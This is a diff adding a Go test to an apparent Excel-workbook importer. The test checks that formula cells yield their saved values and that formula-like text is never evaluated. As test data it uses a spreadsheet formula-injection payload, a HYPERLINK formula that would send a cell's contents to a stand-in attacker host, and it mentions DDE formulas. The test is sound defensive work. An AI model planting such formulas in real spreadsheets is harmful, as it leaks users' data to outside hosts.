@@ -67,6 +67,25 @@ func TestCheckPartnersRefusesAWorkbookBomb(t *testing.T) {
 	}
 }
 
+// Formula cells give the values Excel saved with them, and text that starts like a formula is
+// text: nothing in a workbook is ever evaluated.
+func TestFormulaCellsAreReadAsTheirSavedValues(t *testing.T) {
+	res := checkBytes(t, formulaCells(t), nil)
+	if !res.OK() || len(res.Creates) != 2 {
+		t.Fatalf("problems %+v, %d to create", res.Problems, len(res.Creates))
+	}
+	kestrel, condor := res.Creates[0].Partner, res.Creates[1].Partner
+	if name := kestrel.Texts["en"].Name; name != "Kestrel Bank" {
+		t.Errorf("a name computed by a formula reads %q, want the saved value", name)
+	}
+	if name := condor.Texts["en"].Name; name != `=HYPERLINK("http://evil.example/?d="&A3,"Open")` {
+		t.Errorf("a name written like a formula reads %q, want the text", name)
+	}
+	if condor.Type != "foundation" {
+		t.Errorf("a type computed by a DDE formula reads %q, want the saved value", condor.Type)
+	}
+}
+
 // xlsxRows reads a workbook of hand-written rows with the given shared strings and styles.
 func xlsxRows(t *testing.T, parts map[string]string) []tableRow {
 	t.Helper()
